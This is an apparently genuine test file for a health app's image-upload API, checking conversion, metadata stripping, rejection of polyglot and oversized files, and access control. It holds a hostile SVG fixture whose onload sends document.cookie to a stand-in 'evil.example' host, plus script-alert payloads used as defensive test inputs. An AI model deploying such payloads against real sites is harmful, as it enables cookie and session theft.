import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as bmp from 'bmp-ts';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { RECORD_MAX_BYTES, RECORD_MESSAGES, UPLOAD_MESSAGES, type UploadedImageDto } from '@carenet/shared';
import { useTestApp } from '../../../test/app';
import { pdfBytes } from '../../../test/documents';
import { createAdmin, createUser, type TestUser } from '../../../test/factories';
import {
  gifJavaScriptPolyglot,
  hugePng,
  pngSignatureThenHtml,
  pngThenHtml,
  pngWithHtmlText,
  truncatedPng,
} from '../../../test/images';
import { findUserById } from '../users';
import { call, careCircle, logged, storedFiles, upload } from './testing';

const dataDir = path.join(tmpdir(), `carenet-images-${randomUUID()}`);
const t = useTestApp({ DATA_DIR: dataDir });
afterAll(() => rm(dataDir, { recursive: true, force: true }));

const canvas = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 40, g: 150, b: 110 } } });

const png = (width = 1000, height = 800) => canvas(width, height).png().toBuffer();

/** A 24-bit bitmap of one colour, as bmp-ts writes it (its pixels are ABGR). */
function bmpImage(width: number, height: number): Buffer {
  const pixels = Buffer.alloc(width * height * 4);
  for (let i = 0; i < pixels.length; i += 4) pixels.set([0, 110, 150, 40], i);
  return bmp.encode({ data: pixels, bitPP: 24, width, height }).data;
}

const HOSTILE_SVG = Buffer.from(
  `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="fetch('https://evil.example/'+document.cookie)">
  <script>alert(document.cookie)</script>
  <rect width="300" height="200" fill="#2a9d8f"/>
</svg>`,
);

const uploadImage = (user: TestUser | null, filename: string, bytes: Buffer) =>
  upload(t, '/images', user, { filename, bytes });

async function uploaded(user: TestUser, filename = 'knee.png', bytes?: Buffer): Promise<UploadedImageDto> {
  const res = await uploadImage(user, filename, bytes ?? (await png()));
  expect(res.statusCode, res.body).toBe(201);
  return res.json().data as UploadedImageDto;
}

const served = async (url: string, user?: TestUser | null) => {
  const res = await call(t, 'GET', url, user);
  expect(res.statusCode).toBe(200);
  return { type: res.headers['content-type'], bytes: res.rawPayload };
};

describe('POST /images (docs/files-and-uploads.md#accepted-types Image upload)', () => {
  it("stores the image and its 776x435 variant, with SPEC's message", async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const res = await uploadImage(patient, 'knee.png', await png(1000, 800));
    expect(res.statusCode).toBe(201);
    const image = res.json().data as UploadedImageDto;
    expect(res.json().message).toBe('Image is uploaded successfully');
    expect(image).toMatchObject({ userId: patient.user.id, name: 'knee.png', width: 1000, height: 800 });
    expect(image.url).toMatch(/^\/files\/record-image\/\d{4}\/\d{2}\/([0-9a-f-]{36})\.png$/);
    expect(image.resizedUrl).toBe(image.url.replace(/\.png$/, '_776x435.webp'));

    const variant = await served(image.resizedUrl, patient);
    expect(variant.type).toBe('image/webp');
    expect(await sharp(variant.bytes).metadata()).toMatchObject({ format: 'webp', width: 776, height: 435 });
    const original = await served(image.url, patient);
    expect(await sharp(original.bytes).metadata()).toMatchObject({ format: 'png', width: 1000, height: 800 });
    // Even a picture smaller than the frame fills it.
    const small = await uploaded(patient, 'small.png', await png(120, 90));
    expect(await sharp((await served(small.resizedUrl, patient)).bytes).metadata()).toMatchObject({
      width: 776,
      height: 435,
    });
  });

  it('takes jpeg, gif, png, bmp, tiff, svg and webp by their content', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const cases: [string, Buffer, string][] = [
      ['photo.jpeg', await canvas(64, 48).jpeg().toBuffer(), 'jpeg'],
      ['photo.JPG', await canvas(64, 48).jpeg().toBuffer(), 'jpeg'],
      ['anim.gif', await canvas(64, 48).gif().toBuffer(), 'gif'],
      ['scan.tiff', await canvas(64, 48).tiff().toBuffer(), 'png'],
      ['scan.bmp', bmpImage(64, 48), 'png'],
      ['logo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"/>'), 'png'],
      ['photo.webp', await canvas(64, 48).webp().toBuffer(), 'webp'],
    ];
    for (const [filename, bytes, format] of cases) {
      const image = await uploaded(patient, filename, bytes);
      const { bytes: stored } = await served(image.url, patient);
      expect(await sharp(stored).metadata(), filename).toMatchObject({ format, width: 64, height: 48 });
    }
  });

  it('turns a bitmap into an opaque PNG, not an invisible one', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const image = await uploaded(patient, 'scan.bmp', bmpImage(8, 8));
    expect(image.name).toBe('scan.png');
    const { data } = await sharp((await served(image.url, patient)).bytes)
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect([...data.subarray(0, 4)]).toEqual([40, 150, 110, 255]);
  });

  it('makes an SVG with a script harmless: only its pixels are kept, served as PNG', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const image = await uploaded(patient, 'chart.svg', HOSTILE_SVG);
    expect(image.url).toMatch(/\.png$/);
    expect(image.name).toBe('chart.png');
    for (const url of [image.url, image.resizedUrl]) {
      const { type, bytes } = await served(url, patient);
      expect(type).not.toContain('svg');
      const text = bytes.toString('latin1');
      for (const hostile of ['<script', 'onload', 'document.cookie', '<svg'])
        expect(text).not.toContain(hostile);
    }
    const { bytes } = await served(image.url, patient);
    expect(await sharp(bytes).metadata()).toMatchObject({ format: 'png', width: 300, height: 200 });
  });

  it("keeps no photo's metadata (a camera's or a phone's location)", async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const tagged = await canvas(64, 48)
      .jpeg()
      .withExif({ IFD0: { Artist: 'Asha Rao', ImageDescription: 'Taken at home' } })
      .toBuffer();
    expect((await sharp(tagged).metadata()).exif).toBeDefined();
    const image = await uploaded(patient, 'photo.jpg', tagged);
    const stored = (await served(image.url, patient)).bytes;
    expect((await sharp(stored).metadata()).exif).toBeUndefined();
    expect(stored.toString('latin1')).not.toContain('Asha Rao');
  });

  it('refuses an image whose extension lies, a file that is no image, and one that cannot be read', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const lying = await uploadImage(patient, 'photo.gif', await png());
    expect(lying.statusCode).toBe(400);
    expect(lying.json()).toMatchObject({
      message: RECORD_MESSAGES.imageNameMismatch,
      errors: [{ path: 'file', message: RECORD_MESSAGES.imageNameMismatch }],
    });
    for (const [filename, bytes] of [
      ['report.png', pdfBytes()],
      ['notes.png', Buffer.from('plain text')],
      ['page.svg', Buffer.from('<html><body onload="alert(1)"></body></html>')],
    ] as const) {
      const res = await uploadImage(patient, filename, bytes);
      expect(res.statusCode, filename).toBe(400);
      expect(res.json().message).toBe(RECORD_MESSAGES.imageWrongType);
    }
    const truncated = (await png()).subarray(0, 60);
    const broken = await uploadImage(patient, 'broken.png', truncated);
    expect(broken.statusCode).toBe(400);
    expect(broken.json().message).toBe(RECORD_MESSAGES.imageUnreadable);
    expect((await call(t, 'GET', '/images', patient)).json().data).toEqual([]);
  });

  it('refuses pictures that claim a canvas too large to decode safely', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const hugeBmp = bmpImage(4, 4);
    hugeBmp.writeInt32LE(100_000, 18);
    hugeBmp.writeInt32LE(100_000, 22);
    const hugeSvg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"/>');
    for (const [filename, bytes] of [
      ['huge.bmp', hugeBmp],
      ['huge.svg', hugeSvg],
    ] as const) {
      const res = await uploadImage(patient, filename, bytes);
      expect(res.statusCode, filename).toBe(400);
      expect(res.json().message).toBe(RECORD_MESSAGES.imageUnreadable);
    }
  });

  it('refuses a picture that is also a page or a script, or that is cut short, and stores nothing', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const cases: [string, string, Buffer][] = [
      ['the PNG signature followed by HTML', 'scan.png', pngSignatureThenHtml()],
      ['a PNG with a page after its end', 'scan.png', await pngThenHtml()],
      ['a PNG with a page in a text chunk', 'scan.png', await pngWithHtmlText()],
      ['a GIF that is also JavaScript', 'scan.gif', await gifJavaScriptPolyglot()],
      ['a PNG cut short', 'scan.png', await truncatedPng()],
      ['a 400-megapixel PNG', 'huge.png', hugePng()],
    ];
    for (const [what, filename, bytes] of cases) {
      const res = await uploadImage(patient, filename, bytes);
      expect(res.statusCode, what).toBe(400);
      expect(res.json(), what).toMatchObject({
        message: RECORD_MESSAGES.imageUnreadable,
        errors: [{ path: 'file', message: RECORD_MESSAGES.imageUnreadable }],
      });
    }
    expect((await call(t, 'GET', '/images', patient)).json().data).toEqual([]);
    expect(await storedFiles(t, patient.user.id)).toEqual([]);
  });

  it('refuses two images in one request instead of keeping one of them', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const res = await upload(t, '/images', patient, [
      { filename: 'first.png', bytes: await png(64, 48) },
      { filename: 'second.png', bytes: await png(32, 24) },
    ]);
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({
      message: UPLOAD_MESSAGES.oneFileAtATime,
      errors: [{ path: 'file', message: UPLOAD_MESSAGES.oneFileAtATime }],
    });
    expect(await storedFiles(t, patient.user.id)).toEqual([]);
  });

  it('refuses an image over 10 MB with a clear 413', async () => {
    const patient = await createUser(t.ctx, { roles: ['patient'] });
    const head = await png(10, 10);
    const res = await uploadImage(patient, 'big.png', Buffer.concat([head, Buffer.alloc(RECORD_MAX_BYTES)]));
    expect(res.statusCode).toBe(413);
    expect(res.json().message).toBe('The image is larger than 10 MB. Please select a smaller image.');
    expect((await uploadImage(null, 'knee.png', head)).statusCode).toBe(401);
  });
});

describe('GET /images and the files behind them', () => {
  it('shows the images to the user, their doctor and administrators, and logs every read', async () => {
    const { patient, doctor } = await careCircle(t);
    const first = await uploaded(patient, 'first.png');
    const second = await uploaded(patient, 'second.png');
    const admin = await createAdmin(t.ctx);
    for (const reader of [patient, doctor, admin]) {
      const res = await call(t, 'GET', `/images?userId=${patient.user.id}`, reader);
      expect(res.statusCode).toBe(200);
      expect(res.json<{ data: UploadedImageDto[] }>().data.map((image) => image._id)).toEqual([
        second._id,
        first._id,
      ]);
    }
    await served(first.resizedUrl, doctor);
    const reads = await logged(t, patient.user.id, 'recordImage.read');
    expect(reads.map((row) => row.userId).sort()).toEqual(
      [patient.user.id, doctor.user.id, admin.user.id].sort(),
    );
    const opened = await logged(t, patient.user.id, 'recordImage.opened');
    expect(opened).toMatchObject([{ userId: doctor.user.id, category: 'Medical Record' }]);
  });

  it('answers 404 to another patient and a doctor not treating the user, and 401 to an anonymous caller', async () => {
    const { patient, otherDoctor, otherPatient } = await careCircle(t);
    const image = await uploaded(patient);
    for (const outsider of [otherDoctor, otherPatient]) {
      expect((await call(t, 'GET', `/images?userId=${patient.user.id}`, outsider)).statusCode).toBe(404);
      expect((await call(t, 'GET', image.url, outsider)).statusCode).toBe(404);
      expect((await call(t, 'GET', image.resizedUrl, outsider)).statusCode).toBe(404);
      expect((await call(t, 'DELETE', `/images/${image._id}`, outsider)).statusCode).toBe(404);
      expect((await call(t, 'PUT', `/images/${image._id}/profile`, outsider)).statusCode).toBe(404);
    }
    expect((await call(t, 'GET', `/images?userId=${patient.user.id}`)).statusCode).toBe(401);
    expect((await call(t, 'GET', image.url)).statusCode).toBe(404);
  });
});

describe('PUT /images/{id}/profile and DELETE /images/{id}', () => {
  it('makes a public copy the profile picture, replacing the copy before it', async () => {
    const { patient, doctor } = await careCircle(t);
    const first = await uploaded(patient, 'first.png', await png(1200, 900));
    const second = await uploaded(patient, 'second.png');

    const set = await call(t, 'PUT', `/images/${first._id}/profile`, patient);
    expect(set.statusCode).toBe(200);
    expect(set.json().message).toBe(RECORD_MESSAGES.profileImageSet);
    const firstUrl = set.json().data.profile_image_url as string;
    expect(firstUrl).toMatch(/^\/files\/profile-image\/.+\.webp$/);
    const picture = await served(firstUrl, null);
    expect(await sharp(picture.bytes).metadata()).toMatchObject({ width: 512, height: 384 });
    const listed = (await call(t, 'GET', '/images', patient)).json().data as UploadedImageDto[];
    expect(listed.map((image) => [image._id, image.isProfileImage])).toEqual([
      [second._id, false],
      [first._id, true],
    ]);

    const again = await call(t, 'PUT', `/images/${second._id}/profile`, patient);
    const secondUrl = again.json().data.profile_image_url as string;
    expect(secondUrl).not.toBe(firstUrl);
    expect((await call(t, 'GET', firstUrl)).statusCode).toBe(404);
    expect((await findUserById(t.ctx.db, patient.user.id))?.profileImageUrl).toBe(secondUrl);

    const byDoctor = await call(t, 'PUT', `/images/${first._id}/profile`, doctor);
    expect(byDoctor.statusCode).toBe(403);
    expect(byDoctor.json().message).toBe(RECORD_MESSAGES.onlyUploaderChanges);
    expect(await logged(t, patient.user.id, 'recordImage.madeProfileImage')).toHaveLength(2);
  });

  it("deletes the image, its variant and the profile picture made from it, with SPEC's message", async () => {
    const { patient, doctor } = await careCircle(t);
    const image = await uploaded(patient);
    const kept = await uploaded(patient, 'kept.png');
    const profileUrl = (await call(t, 'PUT', `/images/${image._id}/profile`, patient)).json().data
      .profile_image_url as string;

    const byDoctor = await call(t, 'DELETE', `/images/${image._id}`, doctor);
    expect(byDoctor.statusCode).toBe(403);
    const res = await call(t, 'DELETE', `/images/${image._id}`, patient);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      status: 'success',
      message: 'The image is successfully deleted from the database.',
    });
    for (const url of [image.url, image.resizedUrl, profileUrl]) {
      expect((await call(t, 'GET', url, patient)).statusCode, url).toBe(404);
    }
    expect((await findUserById(t.ctx.db, patient.user.id))?.profileImageUrl).toBeNull();
    const left = (await call(t, 'GET', '/images', patient)).json().data as UploadedImageDto[];
    expect(left.map((i) => i._id)).toEqual([kept._id]);
    expect((await call(t, 'DELETE', `/images/${image._id}`, patient)).statusCode).toBe(404);
    expect(await logged(t, patient.user.id, 'recordImage.deleted')).toHaveLength(1);
  });
});
